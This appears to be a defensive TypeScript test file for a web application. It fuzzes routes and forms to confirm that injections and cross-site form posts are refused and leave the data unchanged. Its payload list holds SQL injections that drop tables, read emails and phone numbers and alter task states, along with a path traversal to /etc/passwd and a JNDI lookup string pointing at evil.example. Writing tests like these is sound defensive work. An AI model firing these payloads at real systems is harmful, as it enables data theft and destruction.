import { beforeAll, describe } from "vitest";
import { startCampaign } from "../../client/kinds/campaign.ts";
import type { Organization } from "../support/organization.ts";
import { formFields, queryFields, routes } from "../web/routes.ts";
import { attackLine, upTo } from "./line.ts";
import { openStage, type Stage, tokenIn } from "./stage.ts";

let stage: Stage;
let organization: Organization;
let other: string;
/** Values for each parameter of a route's path. */
let parts: Record<string, string>;
let cookie: string;

beforeAll(async () => {
  stage = await openStage();
  const { desk } = stage;
  organization = await desk.organization({ type: "CHA", language: "zh-CN" });
  const there = await desk.organization();
  ({ name: other } = await desk.db.organization.findFirstOrThrow({ where: { id: there.id } }));
  const { taskId, caseId } = await desk.finding(organization, "x");
  const campaign = { organizationId: organization.id, title: "x", emergency: true, actor: "administrator" } as const;
  const started = await startCampaign(desk.context, campaign);
  cookie = await desk.session(organization.person("supervisory-board"));
  parts = {
    "/t/:code": `/t/${await desk.code(organization.person("secretariat"), taskId)}`,
    "/s/:code": `/s/${await desk.boardCode(organization.person("supervisory-board"))}`,
    "/o/:code/query/:id": `/o/${organization.code}/query/${started.caseId}`,
    "/o/:code": `/o/${organization.code}`,
    "/org/:code": `/org/${organization.code}`,
    "/board/task/:id": `/board/task/${taskId}`,
    "/board/case/:id": `/board/case/${caseId}`,
    ":task": taskId,
    ":what": "rectification",
  };
});
const pathOf = (pattern: string): string => {
  let path = pattern;
  for (const [from, to] of Object.entries(parts)) path = path.replace(from, to);
  return path;
};

const injections = [
  "' or '1'='1",
  "') or 1=1--",
  "'; drop table person; --",
  "1; select pg_sleep(5)--",
  "' union select email, phone from person--",
  "\\'; update task set state='waived'; --",
  "%27%20OR%20TRUE--",
  '{"not":""}',
  '{"contains":""}',
  '{"$queryRawUnsafe":"select 1"}',
  "[object Object]",
  "__proto__",
  "constructor",
  "$1",
  "%",
  "_",
  "\0",
  "\ud800",
  "x".repeat(5_000),
  "-1",
  "NaN",
  "1e309",
  "9999-99-99",
  "../../../etc/passwd",
  "$\u007bjndi:ldap://evil.example/a}",
];
const suffixes = ["", "[not]", "[contains]", "[]", "[0][not]", ".not", "[__proto__][x]"];

describe("forms and queries", () => {
  attackLine(
    {
      attack: 'SQL and operators of the database layer (`{not: ""}`) in paths, queries and forms',
      pass: "0 rows changed, 0 rows of others shown, 0 failures",
      n: 500,
      fast: 60,
    },
    async ({ n, random, pick, tried, succeeded, note }) => {
      const all = Object.keys(routes).filter((route) => !/clock|inbox|leave|POST \/s\//.test(route));
      const before = await stage.digest();
      const statuses: Record<number, number> = {};
      for (const _ of upTo(n)) {
        const [method = "", pattern = ""] = pick(all).split(" ");
        const known = pathOf(pattern);
        // Sometimes the code or id itself is an injection.
        const path = (random() < 0.3 ? pattern : known).replace(/:\w+/g, () =>
          encodeURIComponent(pick(injections).replaceAll("\ud800", "")),
        );
        const query = new URLSearchParams({ [pick(queryFields) + pick(suffixes)]: pick(injections) }).toString();
        const began = performance.now();
        let answer: Awaited<ReturnType<Stage["ask"]>>;
        if (method === "POST") {
          const shown = await stage.ask(known, { headers: { cookie } });
          const form: Record<string, string> = { token: tokenIn(shown.text) || "x", verb: "press" };
          for (const _ of upTo(4))
            form[pick(formFields.filter((name) => name !== "token")) + pick(suffixes)] = pick(injections);
          // A valid form would not be an attack.
          form.verb = pick(injections);
          delete form.words;
          form.subject = "";
          answer = await stage.post(`${path}?${query}`, form, { headers: { cookie } });
        } else answer = await stage.ask(`${path}?${query}`, { method, headers: { cookie } });
        statuses[answer.status] = (statuses[answer.status] ?? 0) + 1;
        const about = `${method} ${path.slice(0, 60)}?${query.slice(0, 60)}`;
        if (answer.status >= 500) succeeded(`${about}: ${answer.status}`);
        if (performance.now() - began > 4_500) succeeded(`${about}: took over 4.5 s`);
        const isPublic = pattern.startsWith("/org") || pattern === "/";
        if (!isPublic && answer.text.includes(other)) succeeded(`${about}: shows another organization`);
        if (/@example\.org|syntax error at|PrismaClient/.test(answer.text))
          succeeded(`${about}: shows an address or a fault`);
        tried();
      }
      const after = await stage.digest();
      for (const [table, digest] of Object.entries(after))
        if (digest !== before[table]) succeeded(`${table} was changed`);
      note(
        Object.entries(statuses)
          .map(([status, count]) => `${status}: ${count}`)
          .join(", "),
      );
    },
  );

  attackLine(
    {
      attack: "Every form, posted from another site, from a frame without origin, and without its token",
      pass: "100% refused, nothing changed",
      n: "all",
      fast: 1,
    },
    async ({ tried, succeeded, note }) => {
      const forms = Object.keys(routes).filter((route) => route.startsWith("POST ") && route !== "POST /clock");
      const before = await stage.digest();
      for (const route of forms) {
        const path = pathOf(route.replace("POST ", "")).replace(/:\w+/g, parts[":task"] ?? "");
        const shown = await stage.ask(path, { headers: { cookie } });
        const page = shown.status === 200 ? shown : await stage.ask("/board", { headers: { cookie } });
        const token = tokenIn(page.text);
        const fields = {
          token,
          verb: "acknowledge",
          subject: "x",
          words: "x",
          severity: "major",
          kind: "opinion",
          key: "k1",
        };
        const { token: _, ...bare } = fields;
        for (const [from, headers, sent] of [
          ["another site", { "sec-fetch-site": "cross-site" }, fields],
          ["a neighbouring site", { "sec-fetch-site": "same-site" }, fields],
          ["another origin", { origin: "https://evil.example" }, fields],
          ["another port", { origin: "http://127.0.0.1:1" }, fields],
          ["no token", {}, bare],
          ["an empty token", {}, { ...fields, token: "" }],
          ["a frame of no origin", { origin: "null" }, bare],
        ] as const) {
          const answer = await stage.post(path, sent, { headers: { cookie, ...headers } });
          if (![401, 403, 404].includes(answer.status)) succeeded(`${route} from ${from}: ${answer.status}`);
          tried();
        }
      }
      const after = await stage.digest();
      for (const [table, digest] of Object.entries(after))
        if (digest !== before[table]) succeeded(`${table} was changed`);
      note(`${forms.length} forms`);
    },
  );
});
